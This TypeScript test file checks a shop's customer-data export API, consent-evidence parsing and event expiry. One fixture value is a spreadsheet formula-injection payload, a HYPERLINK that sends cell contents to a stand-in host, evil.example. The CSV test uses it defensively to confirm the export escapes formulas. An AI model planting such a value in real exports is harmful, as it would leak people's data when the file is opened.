import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CustomerEvent } from "../../../lambdas/domain/event.ts";
import { readCall } from "../../../lambdas/domain/intake/segment.ts";
import type { CustomerExport } from "../../../lambdas/handlers/api/export-customer.ts";
import { createEventStore } from "../../../lambdas/store/event-store.ts";
import { dormantCampaign } from "../../support/campaigns.ts";
import { customerWith } from "../../support/customer-with.ts";
import { createPeopleApi } from "../../support/people-api.ts";
import { startShop, type TestShop } from "../../support/shop.ts";

const start = Date.parse("2026-03-02T10:00:00Z");
const hostileName = '=HYPERLINK("https://evil.example/?"&A1,"Ada")';

let shop: TestShop;
beforeAll(async () => {
  shop = await startShop(start);
  await shop.open({ campaigns: [dormantCampaign()], settings: { importing: { settleMinutes: 0 } } });
  const events = customerWith({ customerId: "客户 7", now: start, daysSinceOrder: 180, phone: "+447700900123" });
  await shop.tell(
    events.map((event): CustomerEvent => {
      if (event.kind === "identified")
        return { ...event, traits: { ...event.traits, email: "ada@example.com", firstName: hostileName } };
      return event.kind === "consent-given" ? { ...event, source: "checkout", evidence: "form-7, box 2" } : event;
    }),
  );
  await shop.drain();
});
afterAll(() => shop.stop());

const exported = async (id: string, format = "json") =>
  createPeopleApi(shop.tables.runtime()).request(`/api/customers/${encodeURIComponent(id)}/export?format=${format}`);

describe("the export of a person", () => {
  it("holds the profile, every event and message, and each consent with source, time and evidence", async () => {
    const answer = await exported("客户 7");

    const all = (await answer.json()) as CustomerExport;
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.headers.get("content-disposition")).toBe('attachment; filename="customer-___7.json"');
    expect(all).toMatchObject({ customerId: "客户 7", exportedAt: "2026-03-02T10:00:00.000Z", complete: true });
    expect(all.profile?.traits).toMatchObject({ firstName: hostileName, phone: "+447700900123" });
    expect(all.events.map(({ kind }) => kind).toSorted()).toEqual(
      ["consent-given", "consent-given", "identified", "order-placed"].toSorted(),
    );
    expect(all.messages).toMatchObject([{ status: "delivered", campaignId: "dormant" }]);
    expect(all.consents).toEqual(
      ["email", "sms"].map((channel) => ({
        channel,
        topic: "all",
        granted: true,
        at: "2025-09-03T10:00:00.000Z",
        receivedAt: "2026-03-02T10:00:00.000Z",
        source: "checkout",
        evidence: "form-7, box 2",
      })),
    );
  });

  it("is safe in a spreadsheet as CSV: no cell begins a formula, and what a person wrote stays in its cell", async () => {
    const answer = await exported("客户 7", "csv");

    const rows: string[][] = parse(await answer.text(), { bom: true });
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(rows[0]).toEqual(["what", "at", "name", "value", "details"]);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows).toContainEqual(["trait", "", "firstName", `'${hostileName}`, ""]);
    expect(rows).toContainEqual(["trait", "", "phone", "'+447700900123", ""]);
  });

  it("refuses what it cannot do, and says so", async () => {
    const [unknown, format, id] = [await exported("nobody"), await exported("客户 7", "xml"), await exported("a\nb")];

    expect([unknown.status, format.status, id.status]).toEqual([404, 400, 400]);
    expect(await format.json()).toEqual({
      problems: [{ where: "format", problem: "is not allowed", received: '"xml"', allowed: 'one of "json", "csv"' }],
    });
  });
});

describe("evidence of consent", () => {
  it("is what the shop says of how it was given, with the id of the message that said so", () => {
    const traits = { consents: { email: true }, consentEvidence: "checkout,\r\nbox 2 \u201cnews\u201d" };
    const message = { userId: "u", messageId: "m-1", timestamp: "2026-03-02T09:00:00Z", traits };

    const [outcome] = readCall("identify", message, { receivedAt: start });
    const [bare] = readCall("identify", { ...message, traits: { consents: { email: true } } }, { receivedAt: start });

    expect(outcome?.accepted === true && outcome.events[1]).toMatchObject({
      kind: "consent-given",
      evidence: "m-1: checkout, box 2 “news”",
    });
    expect(bare?.accepted === true && bare.events[1]).toMatchObject({ kind: "consent-given", evidence: "m-1" });
  });

  it("never expires, while other events do", async () => {
    const { dynamo } = shop.tables.runtime();
    const { QueryCommand } = await import("@aws-sdk/lib-dynamodb");
    await createEventStore(shop.tables.runtime()).append([
      {
        customerId: "kept",
        eventId: "s",
        occurredAt: 1,
        receivedAt: start,
        kind: "suppressed",
        channel: "sms",
        address: "+447700900123",
        cause: "stop",
      },
      {
        customerId: "kept",
        eventId: "w",
        occurredAt: 2,
        receivedAt: start,
        kind: "consent-withdrawn",
        channel: "sms",
        topic: "all",
        source: "page",
        evidence: "key",
      },
      { customerId: "kept", eventId: "v", occurredAt: 3, receivedAt: start, kind: "product-viewed", productId: "tea" },
    ]);

    const { Items: items = [] } = await dynamo.send(
      new QueryCommand({
        TableName: shop.tables.variables.EVENTS_TABLE,
        KeyConditionExpression: "customerId = :id",
        ExpressionAttributeValues: { ":id": "kept" },
      }),
    );

    expect(items.map(({ kind, expiresAt }) => [kind, typeof expiresAt])).toEqual([
      ["suppressed", "undefined"],
      ["consent-withdrawn", "undefined"],
      ["product-viewed", "number"],
    ]);
    expect(items[1]).toMatchObject({ source: "page", evidence: "key" });
  });
});
